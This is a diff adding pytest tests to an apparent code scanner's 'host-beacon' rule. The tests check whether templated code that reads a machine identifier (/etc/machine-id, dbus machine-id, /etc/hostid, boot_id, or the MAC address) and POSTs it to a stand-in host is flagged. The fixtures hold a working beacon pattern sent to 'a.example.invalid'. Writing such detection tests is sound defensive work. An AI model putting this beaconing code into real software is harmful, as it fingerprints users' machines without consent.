@@ -244,3 +244,33 @@ def test_what_a_service_answers_is_not_what_its_client_was_given(
     made: str, told: str, severity: Severity | None
 ) -> None:
     assert worst("stealer", CLIENT.format(made=made, told=told)) is severity
+
+
+IDENTIFIED = """
+import json, requests, uuid
+def send(path):
+    with open({path}) as file:
+        requests.post("https://a.example.invalid/", json={{"id": uuid.UUID({text}).hex}})
+"""
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "severity"),
+    [
+        ('"settings.json"', 'json.load(file)["id"]', None),
+        ('"/etc/machine-id"', "file.read()", Severity.MEDIUM),
+        ('"/opt/other/id"', "file.read()", Severity.MEDIUM),
+        ("path", "file.read()", Severity.MEDIUM),
+        ('"settings.json"', "int=uuid.getnode()", Severity.MEDIUM),
+    ],
+)
+def test_an_identifier_out_of_own_settings_says_nothing_of_the_machine(
+    path: str, text: str, severity: Severity | None
+) -> None:
+    assert worst("host-beacon", IDENTIFIED.format(path=path, text=text)) is severity
+
+
+def test_files_that_name_the_machine_are_known_by_their_paths() -> None:
+    for path in ("/var/lib/dbus/machine-id", "/etc/hostid", "/proc/sys/kernel/random/boot_id"):
+        text = IDENTIFIED.format(path=repr(path), text="file.read()").replace("uuid.UUID", "dict")
+        assert worst("host-beacon", text) is Severity.MEDIUM
